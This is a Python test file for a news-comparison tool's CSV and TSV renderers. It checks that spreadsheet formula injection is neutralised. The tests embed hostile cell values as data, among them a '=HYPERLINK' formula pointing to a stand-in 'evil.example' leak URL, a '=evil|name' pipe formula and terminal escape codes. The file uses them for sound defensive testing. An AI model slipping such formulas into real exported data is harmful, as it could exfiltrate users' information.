"""Tests of the CSV and TSV renderers: one row per group and report, spreadsheet-safe."""

from __future__ import annotations

import csv
import io

from newsdiff.render.csv import HEADER
from tests.conftest import check_golden
from tests.render_cases import HOSTILE, hostile, rendered, seeds, three_way


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_seeds_golden() -> None:
    check_golden("seeds.csv", rendered("csv", seeds()))
    check_golden("seeds.tsv", rendered("tsv", seeds()))


def test_rows_per_group_and_report() -> None:
    c = three_way()
    rows = _csv(rendered("csv", c))
    assert rows[0] == list(HEADER)
    assert len(rows) - 1 == sum(len(g.members) for g in c.groups)
    b_row = rows[5]
    assert dict(zip(HEADER, b_row, strict=True)) == {
        "group": "1",
        "kind": "divergent",
        "coverage": "2",
        "documents": "3",
        "similarity": "0.7000",
        "signals": "number (a vs b): 500 vs 400",
        "doc": "b",
        "sentences": "1 2",
        "text": "Rogozin warned of a 400-tonne structure. It could fall on India or China.",
    }


def test_csv_and_tsv_carry_the_same_cells() -> None:
    c = seeds()
    tsv_rows = [line.split("\t") for line in rendered("tsv", c).splitlines()]
    assert tsv_rows == _csv(rendered("csv", c))


def test_hostile_cells_are_neutralised() -> None:
    c = hostile()
    rows = _csv(rendered("csv", c))
    assert all(len(r) == len(HEADER) for r in rows)
    texts = [r[-1] for r in rows[1:]]
    formula = next(t for t in texts if "calc" in t)
    assert formula == "'" + HOSTILE[2]
    assert "'+1 plain" in texts and "'-2 plain" in texts
    # The report name and the signal detail are untrusted too.
    assert {r[6] for r in rows[1:]} == {"'=evil|name", "<b>b</b>"}
    # The signal names its reports: hostile names are neutralised there too.
    assert rows[1][5] == "quote (=evil|name vs <b>b</b>): \\x1b[2J<i>x</i> | =1+1 vs none"
    for cell in (cell for r in rows for cell in r):
        assert cell[:1] not in ("=", "+", "-", "@")
        assert not any(ord(ch) < 0x20 for ch in cell)


def test_tsv_has_fixed_columns_even_for_hostile_text() -> None:
    out = rendered("tsv", hostile())
    assert all(line.count("\t") == len(HEADER) - 1 for line in out.splitlines())
    assert '"' not in out.splitlines()[0]


def test_tsv_neutralises_a_formula_behind_a_leading_quote() -> None:
    # Issue 16, item 3: '"' is the text qualifier a spreadsheet strips before evaluating.
    from newsdiff.model import Comparison, Document, Group, Member, Sentence

    texts = ['"=HYPERLINK(""http://evil.example/?leak"",""Click"")"', "Plain text here."]
    docs = tuple(
        Document(id=f"d{i}", text=t, sentences=(Sentence(0, 0, len(t), t),))
        for i, t in enumerate(texts)
    )
    groups = tuple(Group(i, "unique", 1, 0.0, (Member(i, (0,)),)) for i in range(2))
    rows = [line.split("\t") for line in rendered("tsv", Comparison(docs, groups)).splitlines()]
    assert rows[1][-1] == "'" + texts[0]
    assert rows[2][-1] == texts[1]
